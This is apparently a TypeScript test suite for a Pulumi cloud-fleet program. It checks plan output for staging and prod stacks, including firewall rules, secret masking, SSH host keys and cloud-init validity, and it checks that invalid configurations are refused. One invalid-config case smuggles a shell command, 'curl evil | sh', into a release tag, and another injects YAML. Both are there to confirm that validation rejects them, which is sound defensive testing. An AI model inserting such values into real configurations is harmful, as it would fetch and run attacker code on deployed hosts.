/**
 * The program as a whole, through the offline plan CLI (a fresh process per
 * plan, like `pulumi up`): both stacks, invalid configs, a tag bump, secrets,
 * and every rendered document checked by Debian's real `cloud-init schema`.
 */
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import * as path from "node:path";
import { describe, it } from "node:test";
import { parse } from "yaml";
import { INSTANCE_TYPES } from "../stacks/catalog";
import { PROVIDERS } from "../stacks/catalog";
import { routesOf } from "../stacks/config";
import type { Plan } from "./run";
import { fleetConfigOfStackFile, SECRET_PLACEHOLDERS } from "./stack-file";
import { planCli, planJson, type StackConfig, stackConfig, variantStackFile, writeStackFile } from "./testing";
import { readFileSync } from "node:fs";

const INSTANCE_TYPE_NAMES = Object.values(INSTANCE_TYPES);

// Top-level keys the renderer may emit: Debian 12's `cloud-init schema` (22.4) does not flag
// unknown ones (from 23.4 the v1 schema's top-level `additionalProperties: false` does).
const KNOWN_TOP_LEVEL = new Set([
  "hostname", "manage_etc_hosts", "locale", "users", "ssh_pwauth", "allow_public_ssh_keys", "ssh_keys", "ssh_genkeytypes", "write_files", "runcmd",
]);

/** Route instances (image builders are instances too, without user-data). */
const routeInstances = (plan: Plan) => plan.resources.filter((r) => INSTANCE_TYPE_NAMES.includes(r.type) && !r.name.endsWith("-builder"));

function configuredRoutes(stack: string) {
  const text = readFileSync(path.join(__dirname, "..", `Pulumi.${stack}.yaml`), "utf8");
  return routesOf(fleetConfigOfStackFile(text));
}

const plans = new Map<string, Plan>();
const planOf = (stack: string): Plan => {
  if (!plans.has(stack)) plans.set(stack, planJson(["--stack", stack]));
  return plans.get(stack)!;
};

for (const stack of ["staging", "prod"]) {
  describe(`plan --stack ${stack}`, () => {
    it("has one route instance, with decoded user-data, for every configured route", () => {
      const plan = planOf(stack);
      const routes = configuredRoutes(stack);
      const instances = routeInstances(plan);
      assert.deepEqual(instances.map((r) => r.name).sort(), routes.map((r) => r.id).sort());
      // Image builders have user-data too (their host key), shown under their own names.
      assert.deepEqual(Object.keys(plan.userData).filter((name) => !name.endsWith("-builder")).sort(), routes.map((r) => r.id).sort());
      for (const route of routes) assert.match(plan.userData[route.id] ?? "", new RegExp(`install-lantern-box\\.sh\\n\\s+- install\\n\\s+- ${route.releaseTag.replace(/\./g, "\\.")}\\n`));
      if (stack === "prod") {
        for (const provider of PROVIDERS) {
          const regions = new Set(routes.filter((r) => r.provider === provider).map((r) => r.region));
          assert.equal(regions.size, { linode: 17, alicloud: 10, oci: 36 }[provider], provider);
        }
      }
    });

    it("outputs `routes` with name, provider, region, track, rollout, releaseTag, wave, verifiedTag, image and ip", () => {
      const routes = planOf(stack).outputs.routes as Record<string, unknown>[];
      assert.equal(routes.length, configuredRoutes(stack).length);
      for (const r of routes) {
        assert.deepEqual(Object.keys(r).sort(), ["image", "ip", "name", "provider", "region", "releaseTag", "rollout", "track", "verifiedTag", "wave"]);
        // The plan runs no command: every route's tag comes from a check over SSH, so none is verified here.
        assert.equal(r.verifiedTag, "unverified");
        assert.ok(Number.isInteger(r.wave) && (r.wave as number) >= 0);
      }
    });

    it("gives every route a firewall or security group that opens only the configured ports", () => {
      const plan = planOf(stack);
      const firewalls = plan.resources.filter((r) => r.type === "linode:index/firewall:Firewall" && !r.name.includes("builder"));
      assert.equal(firewalls.length, routeInstances(plan).filter((r) => r.type.startsWith("linode:")).length);
      for (const fw of firewalls) {
        assert.equal(fw.inputs.inboundPolicy, "DROP");
        assert.deepEqual((fw.inputs.inbounds as { ports: string }[]).map((i) => i.ports), ["22", "443", "443"]);
      }
      for (const instance of plan.resources.filter((r) => r.type === "linode:index/instance:Instance")) {
        assert.ok(typeof instance.inputs.firewallId === "number" && Number.isFinite(instance.inputs.firewallId));
      }
      const opened = (type: string, describe: (i: any) => string) =>
        [...new Set(plan.resources.filter((r) => r.type === type).map((r) => describe(r.inputs)))].sort();
      assert.deepEqual(
        opened("alicloud:ecs/securityGroupRule:SecurityGroupRule", (i) => `${i.ipProtocol} ${i.portRange} ${i.cidrIp}`),
        ["tcp 22/22 203.0.113.0/28", "tcp 443/443 0.0.0.0/0", "udp 443/443 0.0.0.0/0"],
      );
      assert.deepEqual(
        opened(
          "oci:Core/networkSecurityGroupSecurityRule:NetworkSecurityGroupSecurityRule",
          (i) => `${i.direction} ${i.protocol} ${(i.tcpOptions ?? i.udpOptions)?.destinationPortRange?.min ?? "all"}`,
        ),
        ["EGRESS all all", "INGRESS 17 443", "INGRESS 6 22", "INGRESS 6 443"],
      );
    });

    it("masks every secret: user-data inputs are secret and no placeholder leaks outside decoded user-data", () => {
      const plan = planOf(stack);
      for (const r of routeInstances(plan)) {
        const text = JSON.stringify(r.inputs);
        assert.ok(text.includes('"[secret]"'), `${r.name} user-data must be a secret`);
        for (const placeholder of Object.values(SECRET_PLACEHOLDERS)) assert.ok(!text.includes(placeholder));
      }
    });

    it("runs every remote command without its previous output in the SSH environment (sshd would refuse it: components/ssh.ts)", () => {
      const commands = planOf(stack).resources.filter((r) => r.type === "command:remote:Command");
      assert.ok(commands.length > 0);
      for (const c of commands) assert.equal(c.inputs.addPreviousOutputInEnv, false, c.name);
    });

    it("shows generated public keys as the TLS provider writes them: OpenSSH reads them, no comment, one newline (plan/mocks.ts)", () => {
      const resources = planOf(stack).resources;
      // The routes' and builders' ed25519 host keys, pinned by every command; the builders' RSA login key.
      const hostKeys = resources.flatMap((r) => (r.type === "command:remote:Command" ? [(r.inputs.connection as { hostKey?: string }).hostKey] : []));
      const builderKeys = resources.flatMap((r) => (r.type === "alicloud:ecs/ecsKeyPair:EcsKeyPair" ? [r.inputs.publicKey as string] : []));
      assert.ok(hostKeys.length > 0 && builderKeys.length > 0);
      const dir = mkdtempSync(path.join(tmpdir(), "keys-"));
      const keys = [...new Set(hostKeys)].map((key) => [key, /^256 SHA256:\S+ no comment \(ED25519\)$/m] as const);
      for (const [i, [key, fingerprint]] of [...keys, ...builderKeys.map((key) => [key, /^4096 SHA256:\S+ no comment \(RSA\)$/m] as const)].entries()) {
        assert.match(key ?? "", /^ssh-(ed25519|rsa) [A-Za-z0-9+/]+=*\n$/);
        writeFileSync(path.join(dir, `${i}.pub`), key!);
        const result = spawnSync("ssh-keygen", ["-l", "-f", path.join(dir, `${i}.pub`)], { encoding: "utf8" });
        assert.match(result.stdout, fingerprint, result.stderr);
      }
    });

    it("renders documents that Debian's cloud-init schema accepts", () => {
      const dir = mkdtempSync(path.join(tmpdir(), "userdata-"));
      for (const [name, text] of Object.entries(planOf(stack).userData)) {
        for (const key of Object.keys(parse(text) as object)) assert.ok(KNOWN_TOP_LEVEL.has(key), `${name}: unexpected top-level key ${key}`);
        const file = path.join(dir, `${name}.yaml`);
        writeFileSync(file, text);
        const result = spawnSync("cloud-init", ["schema", "--config-file", file], { encoding: "utf8" });
        assert.equal(result.error, undefined, "cloud-init must be installed (.ci/run installs Debian's package)");
        assert.equal(result.status, 0, `${name}: ${result.stdout}${result.stderr}`);
      }
    });
  });
}

describe("plan with invalid config", () => {
  it("refuses a stack file that lists a region twice", () => {
    const file = variantStackFile("staging", () => undefined);
    const text = readFileSync(file, "utf8").replace(/( +)us-lax:(.*)\n/, "$1us-lax:$2\n$1us-lax:$2\n");
    writeFileSync(file, text);
    const result = planCli(["--stack", "staging", "--config-file", file, "--json"]);
    assert.equal(result.status, 1);
    assert.match(result.stderr, /^config error: \(stack file\): Map keys must be unique/m);
  });

  const cases: [string, (c: StackConfig) => void, string][] = [
    ["no releaseTag", (c) => delete c["lantern-fleet:releaseTag"], "releaseTag"],
    ["a tag with shell metacharacters", (c) => (c["lantern-fleet:releaseTag"] = "v0.0.74; curl evil | sh"), "releaseTag"],
    ["a tag with YAML metacharacters", (c) => (c["lantern-fleet:releaseTag"] = "v0.0.74\n- evil: true"), "releaseTag"],
    ["an unknown provider", (c) => ((c["lantern-fleet:providers"] as StackConfig).aws = { regions: {} }), "providers.aws"],
    ["an unknown region", (c) => (((c["lantern-fleet:providers"] as any).linode.regions["xx-nowhere"] = { stable: 1 })), "providers.linode.regions.xx-nowhere"],
    ["a route on an undefined track", (c) => (((c["lantern-fleet:providers"] as any).linode.regions["us-lax"].beta = 1)), "providers.linode.regions.us-lax.beta"],
    ["a bad canary override", (c) => (((c["lantern-fleet:tracks"] as any).canary = { releaseTag: "latest" })), "tracks.canary.releaseTag"],
    ["SSH open to anywhere", (c) => ((c["lantern-fleet:ingress"] as any).sshSourceCidrs = ["0.0.0.0/0"]), "ingress.sshSourceCidrs.0"],
    ["no SSH sources", (c) => delete c["lantern-fleet:ingress"], "ingress.sshSourceCidrs"],
    // Each port and CIDR is a rule named by its value: twice would be one URN twice.
    ["a port listed twice", (c) => ((c["lantern-fleet:ingress"] as any).tcp = [443, 443]), "ingress.tcp"],
    ["an SSH source listed twice", (c) => ((c["lantern-fleet:ingress"] as any).sshSourceCidrs = ["203.0.113.0/28", "203.0.113.0/28"]), "ingress.sshSourceCidrs"],
    ["an OCI region without a pinned stock image", (c) => delete (c["lantern-fleet:image"] as any).stockImages.oci["us-ashburn-1"], "image.stockImages.oci.us-ashburn-1"],
    ["an alicloud region without a pinned zone", (c) => delete (c["lantern-fleet:providers"] as any).alicloud.zones, "providers.alicloud.zones.ap-southeast-1"],
  ];
  for (const [what, edit, keyPath] of cases) {
    it(`refuses ${what}, naming ${keyPath}, declaring nothing, without a stack trace`, () => {
      const result = planCli(["--stack", "staging", "--config-file", variantStackFile("staging", edit), "--json"]);
      assert.equal(result.status, 1);
      assert.equal(result.stdout, "");
      assert.match(result.stderr, new RegExp(`^config error: ${keyPath.replace(/\./g, "\\.")}: `, "m"));
      assert.doesNotMatch(result.stderr, /\n\s+at /);
    });
  }
});

describe("secrets", () => {
  it("never reads secret values from the stack file: encrypted values stay out of the plan", () => {
    const config = { ...stackConfig("staging"), "lantern-fleet:tailscaleOauthClientSecret": { secure: "v1:CIPHERTEXT-TS" }, "lantern-fleet:routeConfig": { secure: "v1:CIPHERTEXT-RC" } };
    const result = planCli(["--stack", "staging", "--config-file", writeStackFile(config), "--json"]);
    assert.equal(result.status, 0, result.stderr);
    assert.ok(!result.stdout.includes("CIPHERTEXT"));
  });

  it("committed stack files hold no secret in clear", () => {
    for (const stack of ["staging", "prod"]) {
      const config = stackConfig(stack);
      for (const key of ["tailscaleOauthClientSecret", "routeConfig"]) {
        const value = config[`lantern-fleet:${key}`];
        assert.ok(value === undefined || (typeof value === "object" && value !== null && "secure" in value), `${stack}: ${key}`);
      }
    }
  });
});

/** Plans a fixture program (plan/fixtures) in its own process, as the CLI would plan index.ts. */
function planFixture(fixture: string): { status: number | null; stdout: string; stderr: string } {
  const script =
    `require("./plan/run").runPlan({ stack: "staging", program: require("path").resolve("plan/fixtures/${fixture}") })` +
    ".then((p) => process.stdout.write(JSON.stringify(p)), (e) => { process.stderr.write(String(e.message)); process.exit(1); })";
  const result = spawnSync(process.execPath, ["--no-experimental-strip-types", "--require", "./scripts/register-ts.js", "-e", script], {
    cwd: path.join(__dirname, ".."),
    encoding: "utf8",
    timeout: 120_000,
  });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

describe("the plan refuses what the engine would refuse", () => {
  it("fails, naming the resource, when a resource is given a provider of another package", () => {
    const result = planFixture("cross-package-provider.ts");
    assert.equal(result.status, 1);
    assert.match(result.stderr, /resource builds-on-alicloud \(command:local:Command\) is given the alicloud provider alicloud-ap-southeast-1/);
    assert.match(result.stderr, /unrecognized resource type/);
    assert.doesNotMatch(result.stderr, /builds-on-default/);
  });

  it("fails when two resource hooks share a name, as the engine refuses the second", () => {
    const result = planFixture("duplicate-hook-name.ts");
    assert.equal(result.status, 1);
    assert.match(result.stderr, /resource hook already registered for name "same-name"/);
  });

  it("fails when two resources share a URN, with the engine's message", () => {
    const result = planFixture("duplicate-urn.ts");
    assert.equal(result.status, 1);
    assert.match(result.stderr, /Duplicate resource URN 'urn:pulumi:staging::lantern-fleet::pulumi:pulumi:Stack\$command:local:Command::same-name'; try giving it a unique name/);
  });

  it("finds no cross-package provider in either stack (the plans above succeed)", () => {
    for (const stack of ["staging", "prod"]) {
      for (const r of planOf(stack).resources.filter((r) => r.options.provider)) {
        const providerPackage = String(r.options.provider).split("::")[2]!.split("$").pop()!.replace("pulumi:providers:", "");
        assert.equal(providerPackage, r.type.split(":")[0], r.name);
      }
    }
  });
});

describe("what the plan shows reviewers", () => {
  const plan = (): Plan => {
    const result = planFixture("resource-options.ts");
    assert.equal(result.status, 0, result.stderr);
    return JSON.parse(result.stdout) as Plan;
  };

  it("records explicit dependencies, replaceWith, replacementTrigger and deletedWith, as URNs", () => {
    const resources = plan().resources;
    const urn = (name: string) => resources.find((r) => r.name === name)!.urn;
    const second = resources.find((r) => r.name === "second")!;
    // `input` is also an input's dependency, so it shows there, not as an explicit one.
    assert.deepEqual(second.options.dependsOn, [urn("first")]);
    assert.deepEqual(second.options.replaceWith, [urn("first")]);
    assert.equal(second.options.replacementTrigger, "v0.0.74");
    assert.equal(second.options.deletedWith, urn("first"));
    assert.equal(resources.find((r) => r.name === "first")!.options.dependsOn, undefined);
  });

  it("records a resource's beforeCreate hooks by name, and runs none", () => {
    assert.deepEqual(plan().resources.find((r) => r.name === "hooked")!.options.hooksBeforeCreate, ["hooked-before-create"]);
  });

  it("shows a command connection with only its secret fields masked, and archives as repository paths", () => {
    const copy = plan().resources.find((r) => r.name === "copy")!;
    assert.deepEqual(copy.inputs.connection, {
      host: "198.51.100.7",
      user: "ubuntu",
      port: 22,
      hostKey: "ssh-ed25519 AAAAhost",
      privateKey: "[secret]",
      password: "[secret]",
      dialErrorLimit: 10,
      perDialTimeout: 15,
    });
    // The trailing slash stays: it decides where CopyToRemote puts the files.
    assert.deepEqual(copy.inputs.source, { fileArchive: "image/" });
  });
});
